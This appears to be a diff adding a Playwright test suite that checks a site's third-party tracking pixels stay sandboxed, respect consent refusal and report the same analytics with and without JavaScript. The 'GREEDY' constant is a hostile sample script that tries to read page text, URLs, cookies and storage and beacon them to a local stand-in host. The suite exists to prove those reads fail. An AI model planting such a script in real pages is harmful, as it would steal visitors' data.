@@ -1,0 +1,164 @@
+import { once } from "node:events";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import pg from "pg";
+import { expect } from "playwright/test";
+import { answer, settled, stepAt, test, walker } from "../support/browser";
+import { withEmbedded } from "../support/embedded";
+import { SITE_DATABASE } from "~server/store/store";
+import { startSite, type Site } from "../support/site";
+import { toldIn } from "../support/told";
+import { Visitor } from "../support/visitor";
+import { walkTo } from "../support/walk";
+
+/** What pixels of others learn in a browser, and what they cannot. */
+
+let site: Site;
+let partner: Server;
+let folder = "";
+const asked: string[] = [];
+
+/** A script of somebody's that takes whatever it can reach. */
+const GREEDY = `
+  const told = (what, value) => { new Image().src = PARTNER + "/got?" + what + "=" + encodeURIComponent(String(value)); };
+  for (const [what, read] of Object.entries({
+    page: () => parent.document.body.innerText, address: () => parent.location.href, cookie: () => document.cookie,
+    storage: () => localStorage.length, referrer: () => document.referrer || undefined, top: () => top.location.href,
+  })) { try { const value = read(); if (value !== undefined) told(what, value); } catch { told("refused", what); } }
+  document.addEventListener("site:event", ({ detail }) => told("event", detail.name));
+  throw new Error("as scripts of others do");
+`;
+
+test.beforeAll(async () => {
+  partner = createServer((request, response) => {
+    asked.push(decodeURIComponent(request.url ?? ""));
+    if (request.url?.startsWith("/gone")) return void response.writeHead(404).end();
+    if (request.url?.startsWith("/tag"))
+      return void response.writeHead(200, { "Content-Type": "text/javascript" }).end("void 0");
+    return void response
+      .writeHead(200, { "Content-Type": "image/svg+xml" })
+      .end('<svg xmlns="http://www.w3.org/2000/svg"/>');
+  });
+  partner.listen(0, "127.0.0.1");
+  await once(partner, "listening");
+  const address = partner.address();
+  const url = `http://127.0.0.1:${String(typeof address === "object" ? address?.port : 0)}`;
+  folder = mkdtempSync(path.join(tmpdir(), "pixels-"));
+  const file = path.join(folder, "pixels.json");
+  const pixels = [
+    { name: "Picture", image: `${url}/picture?ev={event}&eid={id}` },
+    { name: "Greedy", inline: GREEDY.replaceAll("PARTNER", JSON.stringify(url)), hosts: { image: [url] } },
+    { name: "Tag", script: `${url}/tag.js`, isTagManager: true },
+    { name: "Gone", script: `${url}/gone.js` },
+  ];
+  writeFileSync(file, JSON.stringify(pixels));
+  site = await startSite({ env: { PIXELS_FILE: file, VITALS_SHARE: "1" } });
+});
+test.afterAll(async () => {
+  await site.stop();
+  partner.closeAllConnections();
+  partner.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+/** The times that were kept, and whether they are in the order of a document's life. */
+const timed = () =>
+  withEmbedded(site.dataDir, async (url) => {
+    const client = new pg.Client({ connectionString: url });
+    await client.connect();
+    const { rows } = await client.query<{ page: string; whole: boolean }>(
+      `select page, response_start > 0 and first_contentful_paint >= response_start and hydrated >= response_start
+         and dom_content_loaded >= response_start as whole from hydration_audits`,
+    );
+    await client.end();
+    return rows;
+  });
+
+/** What Google Analytics and Meta would be told of a browser, once its last event is there: name, step and button of each, without their order. */
+async function toldOf(client: string): Promise<string[]> {
+  const read = () =>
+    withEmbedded(site.dataDir, async (url) => {
+      const address = new URL(url);
+      address.pathname = `/${SITE_DATABASE}`;
+      const rows = await toldIn(address.href);
+      return rows.filter(({ body }) => body["client"] === client);
+    });
+  await expect
+    .poll(async () => (await read()).map(({ name, body }) => `${name} ${JSON.stringify(body["params"])}`), {
+      timeout: 15_000,
+    })
+    .toContain('virtual_page_view {"flow":"mini","step":"m/mbc/calling-you"}');
+  return (await read())
+    .map(({ receiver, name, body }) => `${receiver} ${name} ${JSON.stringify(body["params"])}`)
+    .sort();
+}
+
+test.describe("pixels of others", () => {
+  test.use({ onPurpose: [/asked another host|ERR_ABORTED|Failed to load resource|sandboxed/] });
+
+  test("TRACK-01, TRACK-03, TRACK-04: a view counts once a page has stood, a script that fails or takes what it can gets nothing @js", async ({
+    page,
+  }) => {
+    const views = () => asked.filter((one) => one.startsWith("/picture"));
+    await page.goto(`${site.url}/mini/home`);
+    await settled(page);
+    const who = walker("Approved", test.info().parallelIndex);
+    // Whoever goes on at once has not looked at the first page.
+    await answer(page, who);
+    expect(stepAt(page)).not.toBe("home");
+    await expect.poll(() => views().length, { timeout: 15_000 }).toBe(1);
+    expect(views()[0]).toMatch(/^\/picture\?ev=virtual_page_view&eid=[\w-]{22}$/);
+    await expect.poll(() => asked).toContain("/tag.js");
+    await expect.poll(() => asked).toContain("/got?event=virtual_page_view");
+    await expect
+      .poll(() => asked.filter((one) => one.startsWith("/got?refused")).sort())
+      .toEqual([
+        "/got?refused=address",
+        "/got?refused=cookie",
+        "/got?refused=page",
+        "/got?refused=storage",
+        "/got?refused=top",
+      ]);
+    expect(asked.filter((one) => /^\/got\?(?!refused|event)/.test(one))).toEqual([]);
+    await expect.poll(() => site.output()).toContain("Failed to load the Gone Pixel script");
+    // UI-092: the document that was left has told its times, which are those of a real one.
+    await page.goto(`${site.url}/legal/privacy-choices`);
+    await expect.poll(timed, { timeout: 15_000 }).toEqual([{ page: "/mini/home", whole: true }]);
+    // Saying no ends all of it, also for the page that comes then.
+    await page.getByRole("button", { name: "Do not allow anything" }).click();
+    const before = asked.length;
+    await page.goto(`${site.url}/mini/home`);
+    await settled(page);
+    expect(await page.locator("iframe").count()).toBe(0);
+    expect(asked).toHaveLength(before);
+  });
+
+  test("UI-069 to UI-078: a walk with scripts tells exactly what the same walk tells without @js", async ({
+    page,
+    context,
+  }) => {
+    test.slow();
+    const who = walker("Approved", test.info().parallelIndex + 3, { hasOffer: true });
+    const end = "m/mbc/calling-you";
+    const plain = new Visitor(site.url);
+    plain.cookies.set("_ga", "GA1.1.4000000001.1");
+    await walkTo(plain, who, `/mini/${end}`, "/mini/home");
+    await context.addCookies([{ name: "_ga", value: "GA1.1.4000000002.1", url: site.url }]);
+    await page.goto(`${site.url}/mini/home`);
+    await settled(page);
+    for (let pages = 0; pages < 40 && stepAt(page) !== end; pages += 1) await answer(page, who);
+    expect(stepAt(page)).toBe(end);
+    const [without, with_] = await Promise.all(["4000000001.1", "4000000002.1"].map(toldOf));
+    expect(without?.length).toBeGreaterThan(30);
+    expect(with_).toEqual(without);
+  });
+
+  test("with no JavaScript nothing of others is asked @nojs", async ({ page }) => {
+    const before = asked.length;
+    await page.goto(`${site.url}/mini/home`);
+    await expect(page.locator("h1")).toBeVisible();
+    expect(asked).toHaveLength(before);
+  });
+});
